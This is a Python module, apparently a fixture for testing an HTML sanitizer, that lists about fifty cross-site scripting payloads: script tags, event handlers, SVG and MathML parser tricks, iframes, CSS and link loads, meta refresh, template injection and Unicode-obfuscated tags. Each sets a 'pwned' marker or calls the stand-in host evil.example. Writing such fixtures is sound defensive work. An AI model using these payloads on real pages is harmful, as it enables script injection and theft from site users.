"""Texts that a provider could hand on to run or load something on the page that shows them. Each would set `pwned` or
call the host evil.example."""

from __future__ import annotations

from typing import Final

HOST: Final = "evil.example"
_RUN: Final = "window.top.pwned=1;window.pwned=1"
_URL: Final = f"//{HOST}/x"
#: A link's address is never followed; its text must be the same as any other.
PAYLOADS: Final = (
    f"<script>{_RUN}</script>",
    f"<script src={_URL}></script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script type=module>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src='{_URL}'>",
    f"<img srcset='{_URL} 1x'>",
    f"<img src='https:{_URL}' loading=eager>",
    f"<svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><image href='{_URL}'/></svg>",
    f"<svg><use href='{_URL}#a'/></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src='{_URL}'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{_RUN}'></style></mglyph></table></mtext></math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe src='{_URL}'></iframe>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<object data='{_URL}'></object>",
    f"<embed src='{_URL}'>",
    f"<video src='{_URL}' autoplay onerror='{_RUN}'></video>",
    f"<audio src='{_URL}' autoplay></audio>",
    f"<video poster='{_URL}'></video>",
    f"<body onload='{_RUN}' background='{_URL}'>",
    f"<table background='{_URL}'><td background='{_URL}'>x</td></table>",
    f"<link rel=stylesheet href='{_URL}'>",
    f"<link rel=prefetch href='{_URL}'><link rel=dns-prefetch href='{_URL}'><link rel=preconnect href='https:{_URL}'>",
    f"<style>@import '{_URL}'; body {{ background: url({_URL}) }}</style>",
    f"<div style='background: url({_URL}); position: fixed; inset: 0'>over everything</div>",
    f"<base href='https:{_URL}'>",
    f"<meta http-equiv=refresh content='0;url=https:{_URL}'>",
    f"<form action='https:{_URL}'><button autofocus onfocus='{_RUN}'>x</button></form>",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'>x</details>",
    f"<marquee onstart='{_RUN}'>x</marquee>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<a href='https:{_URL}' ping='https:{_URL}'>click</a>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    f"<template><img src=x onerror='{_RUN}'></template>",
    f"<!--><img src=x onerror='{_RUN}'>-->",
    f"<![CDATA[><img src=x onerror='{_RUN}'>]]>",
    f"</textarea></title></style></script><img src=x onerror='{_RUN}'>",
    f"\"><img src=x onerror='{_RUN}'>",
    f"'-{_RUN}-'",
    "${" + _RUN + "}",
    "{{constructor.constructor('" + _RUN + "')()}}",
    f"javascript:{_RUN}//",
    f"<xss id=x tabindex=1 onfocus='{_RUN}'></xss>",
    f"\u202e<\u0000img src=x onerror='{_RUN}'>\u2066\ufeff",
    f"<{'<' * 20}a b=\"{'&quot;' * 20}><img/src/onerror='{_RUN}'>",
    f"<div id=app name=body><img name=getElementById src='{_URL}'></div>",
)
